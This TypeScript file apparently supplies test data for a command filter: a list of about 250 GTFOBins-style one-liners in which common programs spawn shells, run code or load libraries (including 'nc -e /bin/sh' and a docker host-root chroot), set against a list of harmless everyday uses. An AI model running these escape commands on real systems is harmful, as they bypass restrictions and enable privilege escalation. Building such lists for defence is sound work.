/**
 * Ways in which an ordinary program starts a shell, runs a text as code or loads what it should not, one a line, in the words of the
 * collection GTFOBins (functions "shell", "command" and "library load"), each with its program alone on the list.
 */
export const GTFOBINS = String.raw`
aa-exec /bin/sh
ansible-test shell
aoss /bin/sh
apt-get update -o APT::Update::Pre-Invoke::=/bin/sh
apt update -o APT::Update::Pre-Invoke::=/bin/sh
ash -c id
at now
awk 'BEGIN {system("/bin/sh")}'
gawk 'BEGIN {system("/bin/sh")}'
mawk 'BEGIN {system("/bin/sh")}'
nawk 'BEGIN {system("/bin/sh")}'
bash -c id
batch
bpftrace --unsafe -e 'BEGIN {system("/bin/sh 1<&0");exit()}'
bundle exec /bin/sh
bundler exec /bin/sh
busybox sh
byebug /tmp/x
c89 -wrapper /bin/sh,-s .
c99 -wrapper /bin/sh,-s .
cabal exec -- /bin/sh
capsh --
cargo --config x help
choom -n 0 /bin/sh
chroot / /bin/sh
cowsay -f /tmp/x x
cowthink -f /tmp/x x
cpan
cpio --rsh-command=/bin/sh -F localhost:x
cpulimit -l 100 -f /bin/sh
crontab -e
csh -c id
csvtool call '/bin/sh;false' /etc/passwd
dash -c id
dc -e '!/bin/sh'
debugfs
distcc /bin/sh
dmsetup ls --exec '/bin/sh -s'
docker run -v /:/mnt --rm -it alpine chroot /mnt sh
dotnet fsi
ed
elvish -c id
emacs -Q -nw --eval '(term "/bin/sh")'
enscript /dev/null -qo /dev/null -I '/bin/sh >&2'
env /bin/sh
ex -c ':!/bin/sh'
expect -c 'spawn /bin/sh;interact'
find . -exec /bin/sh \; -quit
fish -c id
flock -u / /bin/sh
ftp
fzf --bind 'enter:execute(/bin/sh)'
gcc -wrapper /bin/sh,-s .
g++ -wrapper /bin/sh,-s .
gdb -nx -ex '!sh' -ex quit
gem open -e "/bin/sh -c /bin/sh" rdoc
genie -c '/bin/sh'
ghc -e 'System.Process.callCommand "/bin/sh"'
ghci
gimp -idf --batch-interpreter=python-fu-eval -b 'import os'
ginsh
git -c core.pager=/bin/sh log
git help config
git branch --help
git -p help
grc --pty /bin/sh
gtester -q /tmp/x
guile -c '(system "/bin/sh")'
ionice /bin/sh
ip netns exec foo /bin/sh
irb
java -XX:OnOutOfMemoryError=/bin/sh x
java -agentpath:/tmp/x.so x
jjs
jrunscript -e "exec('/bin/sh')"
jshell
julia -e 'run(/bin/sh)'
knife exec -E 'exec "/bin/sh"'
ksh -c id
ksshell -i
ksu
kubectl exec x -- /bin/sh
latex '\documentclass{article}\immediate\write18{/bin/sh}'
latexmk -e 'exec "/bin/sh";'
ldconfig -f x
ld.so /bin/sh
less /etc/profile
lftp -c '!/bin/sh'
logrotate -f x
logsave /dev/null /bin/sh -i
ltrace -b -L /bin/sh
lua -e 'os.execute("/bin/sh")'
lualatex -shell-escape x
luatex -shell-escape x
mail --exec='!/bin/sh'
make -s --eval='x:'
mawk 'BEGIN{system("id")}'
more /etc/profile
msgfilter -P /bin/sh -c x
multitime /bin/sh
mysql -e '\! /bin/sh'
nano -s /bin/sh
nc -e /bin/sh h 1
ncat -e /bin/sh h 1
ncftp
neofetch --config /tmp/x
nice /bin/sh
nmap --interactive
nmap --script=/tmp/x
node -e 'require("child_process").spawn("/bin/sh")'
nohup /bin/sh
npm exec /bin/sh
npm run -C /tmp x
nsenter /bin/sh
octave-cli --eval 'system("/bin/sh")'
openssl req -engine ./lib.so
openvpn --dev null --script-security 2 --up '/bin/sh -c sh'
pandoc -L /tmp/filter.lua x
pdflatex --shell-escape x
pdftex --shell-escape x
perf stat /bin/sh
perl -e 'exec "/bin/sh";'
perlbug -s 'x x x' -r x -c x -e 'exec /bin/sh;'
pexec /bin/sh
php -r 'system("/bin/sh");'
pico -s /bin/sh
pidstat -e /bin/sh
pkexec /bin/sh
pry
psftp
psql -c '\! /bin/sh'
puppet apply -e "exec { '/bin/sh': }"
pwsh -c id
python -c 'import os; os.system("/bin/sh")'
python3 -c 'import pty; pty.spawn("/bin/sh")'
python3.12 -c 'x'
R --no-save -e 'system("/bin/sh")'
rake -p '/bin/sh 1>&0'
rc -c id
restic backup -r x --password-command=/bin/sh x
rlwrap /bin/sh
rpm --eval '%(/bin/sh 1>&2)'
rpmdb --eval '%(/bin/sh 1>&2)'
rpmquery --eval '%{lua:posix.exec("/bin/sh")}'
rpmverify --eval '%(/bin/sh 1>&2)'
rsync -e 'sh -c "sh 0<&2 1>&2"' 127.0.0.1:/dev/null
rtorrent -o execute=/bin/sh
ruby -e 'exec "/bin/sh"'
run-mailcap --action=view /etc/hosts
run-parts --new-session --regex '^sh$' /bin
rview -c ':lua os.execute("reset; exec sh")'
rvim -c ':py import os'
sash
scanmem
scp -S /tmp/x x y:
screen
script -q /dev/null
script -c /bin/sh /dev/null
scrot -e /bin/sh
sed -n '1e exec sh 1>&0' /etc/hosts
service ../../bin/sh
setarch x86_64 /bin/sh
setlock - /bin/sh
sg root -c sh
slsh -e 'system("/bin/sh")'
smbclient '\\x\y' -c '!/bin/sh'
socat stdin exec:/bin/sh
softlimit /bin/sh
sort --compress-program=/bin/sh x
split --filter=/bin/sh /dev/stdin
sqlite3 /dev/null '.shell /bin/sh'
sqlmap -u 127.0.0.1 --eval='import os; os.system("/bin/sh")'
ssh -o ProxyCommand=';sh 0<&2 1>&2' x
ssh -o PermitLocalCommand=yes -o LocalCommand=/bin/sh host
ssh-agent /bin/sh
ssh-keygen -D ./lib.so
sshpass /bin/sh
start-stop-daemon -n x -S -x /bin/sh
stdbuf -i0 /bin/sh
strace -o /dev/null /bin/sh
su -c id
systemd-run -t /bin/sh
tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
task execute /bin/sh
taskset 1 /bin/sh
tclsh
tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x
tdbtool
telnet
tex --shell-escape x
time /bin/sh
timeout --foreground 7d /bin/sh
tmate -c /bin/sh
tmux -c /bin/sh
torify /bin/sh
torsocks /bin/sh
tshark -Xlua_script:/tmp/x
tsc @/tmp/x
unshare /bin/sh
valgrind /bin/sh
vi -c ':!/bin/sh'
view -c ':!/bin/sh'
vigr
vim -c ':!/bin/sh'
vimdiff -c ':!/bin/sh'
vipw
watch -x sh -c 'reset; exec sh 1>&0'
wget --use-askpass=/tmp/x 0
wish
xargs -a /dev/null sh
xdotool exec --sync /bin/sh
xelatex --shell-escape x
xetex --shell-escape x
yarn exec /bin/sh
yash -c id
zip x.zip /etc/hosts -T -TT 'sh #'
zsh -c id
parallel --gnu id ::: 1
pnpm exec id
pnpm dlx cowsay
yarn dlx cowsay
uv run id
poetry run id
conda run id
nix-shell --run id
nix run x
deno eval x
rustc --print x -C linker=/tmp/x x.rs
gradle -I /tmp/x.gradle
mvn exec:exec -Dexec.executable=id
ant -f /tmp/x.xml
rake -f /tmp/x
just -f /tmp/x
ninja -f /tmp/x
helm plugin install x
gh alias set x '!id'
gh extension install x
gpg --exec-path /tmp x
hg --config alias.x='!id' x
svn diff --diff-cmd=/tmp/x
svn --config-dir=/tmp x up
darcs x --posthook=/bin/sh
qemu-system-x86_64 -monitor stdio
lxc exec x -- sh
podman run x
nerdctl run x
crictl exec x sh
machinectl shell
firejail /bin/sh
bwrap --ro-bind / / sh
proot /bin/sh
fakeroot /bin/sh
dbus-run-session /bin/sh
xvfb-run /bin/sh
entr /bin/sh
inotifywait --exec /bin/sh
nodemon -x id
concurrently id
pre-commit try-repo /tmp/x
pytest -p x
pytest -c /tmp/x
`
  .trim()
  .split('\n');

/** What people use the same programs for every day, which a list with the program on it lets through. */
export const EVERYDAY = String.raw`
apt-get install -y jq
apt-get update
awk '{ print $2 }' table
bazel build //app
bundle install
cabal build
cargo build --release
cargo test
cmake -S . -B build
composer install
conda install numpy
cpio -idm
curl -fsSL https://example.org/x
docker pull alpine
dotnet build
find . -name x -print
fzf -f x
gcc -O2 -o x x.c
gem install rake
gh pr create --fill
git commit -m x
git log --oneline
go build ./...
go test ./...
gpg --verify x.sig
gradle build
guile x.scm
helm upgrade x ./chart
hg pull
ip addr
java -jar app.jar
java -cp lib Main
jq .version package.json
julia x.jl
just build
kubectl get pods
latex paper.tex
latexmk paper.tex
ldconfig -p
make -j4 test
meson setup build -Dx=y
mvn package
mysql -h db
ninja -j 4 test
nix build
node script.js
npm ci
npm run build
npx eslint .
openssl dgst -sha256 x
pandoc -f markdown -t html -o x.html x.md
pdflatex paper.tex
php artisan.php
pip install -r requirements.txt
pnpm install --frozen-lockfile
poetry install
pre-commit run --all-files
psql -h db
pytest -q tests
pytest -vv --maxfail=1
python3 -V
python3 tool.py
R -f x.R --vanilla
rake test
restic snapshots
rpm -q bash
rsync -a a/ b/
ruby x.rb
rustc x.rs
sed -n 3p x
sort -u x
ssh-keygen -l -f x
svn up
tar -czf x.tgz x
terraform plan
tox -e py312
tsc -p .
uv sync
valgrind -q ls
wget -q https://example.org/x
xargs -n 1 ls
xmllint --noout x.xml
yarn install
zip -r x.zip x
`
  .trim()
  .split('\n');
